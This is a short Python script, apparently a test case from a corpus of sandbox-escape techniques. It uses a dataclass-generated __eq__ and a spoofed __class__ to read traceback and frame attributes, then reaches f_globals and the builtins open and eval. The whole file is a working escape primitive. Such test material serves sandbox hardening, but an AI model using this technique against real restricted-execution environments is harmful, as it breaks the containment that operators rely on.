# technique: a dataclass field named tb_frame: generated __eq__ (not user code) read frame attributes of any object through a lying __class__
# expect: any
import dataclasses, json

_cache = {}
def peek(obj, name):
    G = _cache.get(name)
    if G is None:
        G = dataclasses.make_dataclass("G", [name])
        _cache[name] = G
    leak = []
    class Catch:
        def __eq__(self, other):
            leak.append(other)
            return True
        __hash__ = None
    T = type(obj)
    Fake = type("Fake", (), {name: Catch(), "__class__": property(lambda s: T)})
    G.__eq__(obj, Fake())
    return leak[0]

class CM:
    def __enter__(self): return self
    def __exit__(self, t, v, tb):
        CM.tb = tb
        return True
with CM():
    json.loads("{")
tb = CM.tb
frames = []
while tb is not None:
    frames.append(peek(tb, "tb_frame"))
    tb = peek(tb, "tb_next")
f = frames[-1]
g = peek(f, "f_globals")
b = peek(f, "f_builtins")
(type(f).__name__, sorted(g)[:8], type(b).__name__, "open" in b, "eval" in b, b["open"])
